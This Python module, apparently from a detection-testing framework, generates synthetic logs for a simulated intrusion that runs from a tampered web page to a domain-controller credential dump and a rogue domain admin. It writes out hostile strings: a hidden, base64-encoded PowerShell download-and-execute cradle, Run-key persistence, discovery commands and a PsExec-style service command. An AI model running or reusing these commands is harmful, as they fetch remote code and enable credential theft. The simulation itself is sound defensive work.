"""A workstation is infected through a web site, and the way from it to the domain controller."""

from __future__ import annotations

import base64
from dataclasses import dataclass
from random import Random

from watchfloor.testing.company.attacks.plan import Attack
from watchfloor.testing.company.clock import HOUR, MINUTE, SECOND
from watchfloor.testing.company.internet import anywhere
from watchfloor.testing.company.life.browsing import fetched
from watchfloor.testing.company.life.domain import CMD, EXPLORER, POWERSHELL, SERVICES, user_of
from watchfloor.testing.company.people import Machine
from watchfloor.testing.company.products.sysmon import Process, Program
from watchfloor.testing.company.products.windows import Account
from watchfloor.testing.company.world import World, every

_MS = "Microsoft Corporation"
_SCRIPTS = Program("C:\\Windows\\System32\\wscript.exe", "Microsoft Windows Based Script Host", _MS, "wscript.exe")
_LSASS = Program("C:\\Windows\\System32\\lsass.exe", "Local Security Authority Process", _MS, "lsass.exe")
_SYSTEM = "NT AUTHORITY\\SYSTEM"
_ARCHIVE = "4f1d0a6e9b7c52381f6ad0c3b5e4978210fe6dcab3948572615f0e9d8c7b6a54"


@dataclass(frozen=True, slots=True)
class _Scene:
    """What the steps share.

    Attributes:
        world: to act in.
        random: chance of the attack.
        machine: the victim's.
        account: the victim's.
        site: host name of the page that was tampered with.
        file: name of the script that it gives out.
        name: host name of the control server.
        control: its address.
    """

    world: World
    random: Random
    machine: Machine
    account: Account
    site: str
    file: str
    name: str
    control: str


def workstation_to_controller(
    world: World, *, day: int, time: str, victim: str, admin: str, hours: float, site: str, file: str, control: str
) -> Attack:
    """From a page that was tampered with to the copy of the directory.

    Args:
        world: to act in.
        day: on which it begins.
        time: at which it begins.
        victim: account of who looks at the page.
        admin: account of the administrator whose password is in the memory of the application server.
        hours: how long contact with the control server is kept.
        site: host name of the page.
        file: name of the script that it gives out.
        control: host name of the control server.
    """
    attack = Attack("workstation", "A workstation is infected, and the directory is copied from it", "incident", world)
    random, person = world.chance("attack:workstation"), world.person(victim)
    if person.workstation is None:
        raise ValueError(victim)
    address = anywhere(random, "RU", "home").address
    scene = _Scene(world, random, person.workstation, world.account(person), site, file, control, address)
    at = world.week.at(day, time)
    agent = _infected(attack, scene, at)
    _controlled(attack, scene, agent, at + 3 * MINUTE, int(hours * HOUR))
    _explored(attack, scene, agent, at + 22 * MINUTE)
    _roasted(attack, scene, at + 41 * MINUTE)
    stolen = _moved(attack, scene, at + 95 * MINUTE, world.account(world.person(admin), admin=True))
    _copied(attack, scene, stolen, at + 170 * MINUTE)
    return attack


def _infected(attack: Attack, scene: _Scene, at: int) -> Process:
    world, host, user = scene.world, scene.machine.name, user_of(scene.world, scene.account.name)
    address, sysmon = scene.machine.address, world.products.sysmon
    place = anywhere(scene.random, "FR", "hosting").address
    folder = f"C:\\Users\\{scene.account.name}\\Downloads\\"
    with attack.step(at, "A page that was tampered with gives out a script", "T1189", host, address, scene.site):
        proxy = world.products.proxy
        world.products.resolver.query(at, address, scene.site, millis=48)
        proxy.request(
            at + SECOND,
            address,
            scene.account.name,
            "GET",
            f"http://{scene.site}/herbst/",
            size=41_200,
            address=place,
            mime="text/html",
        )
        url = f"http://{scene.site}/herbst/{scene.file}"
        proxy.request(
            at + 20 * SECOND,
            address,
            scene.account.name,
            "GET",
            url,
            size=18_400,
            address=place,
            mime="application/javascript",
        )
        world.products.ids.file(
            at + 20 * SECOND, world.server("proxy").address, place, scene.site, f"/herbst/{scene.file}", name=scene.file,
            magic="ASCII text, with very long lines", size=18_400, sha256=_ARCHIVE,
        )  # fmt: skip
        browser = sysmon.running(
            Program(
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                "Google Chrome",
                "Google LLC",
                "chrome.exe",
            ),
            user,
        )
        sysmon.asked(at, host, browser, scene.site, place)
        sysmon.wrote(at + 21 * SECOND, host, browser, folder + scene.file)
    at += 75 * SECOND
    with attack.step(at, "The script is opened and starts an encoded command", "T1059.001", host, scene.account.name):
        explorer = sysmon.running(EXPLORER, user, "C:\\Windows\\Explorer.EXE")
        command = f'"C:\\Windows\\System32\\WScript.exe" "{folder}{scene.file}"'
        logon = world.products.windows.new_logon()
        script = sysmon.started(at, host, explorer, _SCRIPTS, command, user=user, logon=logon, folder=folder)
        code = f"IEX (New-Object Net.WebClient).DownloadString('https://{scene.name}/a')"
        encoded = base64.b64encode(code.encode("utf-16-le")).decode()
        command = f'"{POWERSHELL.image}" -nop -w hidden -enc {encoded}'
        world.products.windows.script_block(at + 3 * SECOND, host, scene.account, code)
        return sysmon.started(at + 2 * SECOND, host, script, POWERSHELL, command, user=user, logon=logon)


def _controlled(attack: Attack, scene: _Scene, agent: Process, at: int, span: int) -> None:
    world, sysmon, host = scene.world, scene.world.products.sysmon, scene.machine.name
    with attack.step(
        at,
        "It asks its control server again and again",
        "T1071.001",
        host,
        scene.machine.address,
        scene.name,
        scene.control,
    ):
        for number, moment in enumerate(every(scene.random, at, at + span, 60, 0.1)):
            fetched(
                world,
                scene.random,
                moment,
                scene.machine.address,
                scene.account.name,
                scene.name,
                scene.control,
                size=scene.random.randrange(380, 640),
            )
            if number % 10 == 0:
                sysmon.asked(moment, host, agent, scene.name, scene.control)
                sysmon.connected(moment, host, agent, scene.machine.address, world.server("proxy").address, 3128)
        key = "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\TelemetrieDienst"
        sysmon.set_value(
            at + 4 * MINUTE, host, agent, key, f"{POWERSHELL.image} -nop -w hidden -f C:\\Users\\Public\\t.ps1"
        )


def _explored(attack: Attack, scene: _Scene, agent: Process, at: int) -> None:
    sysmon, host = scene.world.products.sysmon, scene.machine.name
    with attack.step(
        at, "It looks around: who, which groups, which controllers", "T1087.002", host, scene.account.name, told=False
    ):
        shell = sysmon.started(at, host, agent, CMD, "cmd.exe /c", user=agent.user)
        commands = (
            "whoami /all",
            'net group "Domain Admins" /domain',
            "nltest /domain_trusts",
            "net view /domain",
            "setspn -T * -Q */*",
            "quser",
        )
        for number, command in enumerate(commands):
            name = command.partition(" ")[0]
            program = Program(f"C:\\Windows\\System32\\{name}.exe", name, _MS, f"{name}.exe")
            sysmon.started(at + number * 14 * SECOND, host, shell, program, command, user=agent.user)


def _roasted(attack: Attack, scene: _Scene, at: int) -> None:
    world, controller = scene.world, scene.world.server("controller").name
    with attack.step(
        at,
        "Tickets of every service account are asked for, in an old encryption",
        "T1558.003",
        scene.machine.address,
        scene.account.name,
    ):
        for number, service in enumerate(world.names.roastable):
            world.products.windows.service_ticket(
                at + number * 700_000, controller, scene.account, scene.machine.address, service, encryption="0x17"
            )


def _moved(attack: Attack, scene: _Scene, at: int, admin: Account) -> Account:
    world, windows, sysmon = scene.world, scene.world.products.windows, scene.world.products.sysmon
    target, erp, source = world.server("application"), world.names.services["erp"], scene.machine.address
    with attack.step(
        at,
        "The service account's password opens the application server by a remote service",
        "T1021.002",
        target.name,
        erp.name,
        source,
    ):
        windows.ticket(at, world.server("controller").name, erp, source)
        logon = windows.logged_on(
            at + SECOND,
            target.name,
            erp,
            address=source,
            package="NTLM",
            workstation=scene.machine.name.upper(),
            privileged=True,
            seconds=900,
        )
        windows.shared(at + 2 * SECOND, target.name, erp, logon, source, "ADMIN$", "kTxqWzBn.exe", "0x2")
        windows.service_installed(
            at + 3 * SECOND,
            target.name,
            erp,
            logon,
            "kTxq",
            "%COMSPEC% /C echo c:\\windows\\kTxqWzBn.exe ^> %SYSTEMDRIVE%\\WINDOWS\\Temp\\o.txt",
        )
        services = sysmon.running(SERVICES, _SYSTEM)
        service = sysmon.started(
            at + 4 * SECOND,
            target.name,
            services,
            CMD,
            "C:\\Windows\\system32\\cmd.exe /C echo c:\\windows\\kTxqWzBn.exe",
            user=_SYSTEM,
            integrity="System",
        )
        tool = Program("C:\\Windows\\kTxqWzBn.exe")
        running = sysmon.started(
            at + 9 * SECOND, target.name, service, tool, tool.image, user=_SYSTEM, integrity="System"
        )
        world.products.firewall.session(
            at + 900 * SECOND, source, target.address, 445, sent=3_100_000, received=400_000, seconds=900
        )
    at += 13 * MINUTE
    with attack.step(
        at, "Passwords are read from the memory of the application server", "T1003.001", target.name, admin.name
    ):
        trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9f3a4|C:\\Windows\\System32\\KERNELBASE.dll+3ec1e|UNKNOWN(000001D2A4F70A21)"
        sysmon.accessed(at, target.name, running, sysmon.running(_LSASS, _SYSTEM), "0x1410", trace)
    return admin


def _copied(attack: Attack, scene: _Scene, admin: Account, at: int) -> None:
    world, windows = scene.world, scene.world.products.windows
    controller, source = world.server("controller"), world.server("application")
    with attack.step(
        at,
        "An administrator's account logs on to the controller from the application server",
        "T1078.002",
        controller.name,
        admin.name,
        source.address,
        told=False,
    ):
        windows.ticket(at, controller.name, admin, source.address)
        logon = windows.logged_on(
            at + SECOND,
            controller.name,
            admin,
            address=source.address,
            package="NTLM",
            workstation=source.name.upper(),
            privileged=True,
            seconds=1800,
        )
        world.products.firewall.session(
            at + MINUTE, source.address, controller.address, 445, sent=90_000, received=60_000, seconds=50
        )
    at += 6 * MINUTE
    with attack.step(at, "It copies the directory with all passwords", "T1003.006", controller.name, admin.name):
        for number in range(6):
            windows.replicated(at + number * SECOND, controller.name, admin, logon)
    at += 15 * MINUTE
    with attack.step(
        at, "A new account becomes administrator of the domain", "T1136.002", controller.name, admin.name, "svc_print2"
    ):
        new = Account("svc_print2", 1871)
        windows.created(at, controller.name, admin, logon, new)
        windows.added(at + 9 * SECOND, controller.name, admin, logon, new, world.names.administrators)
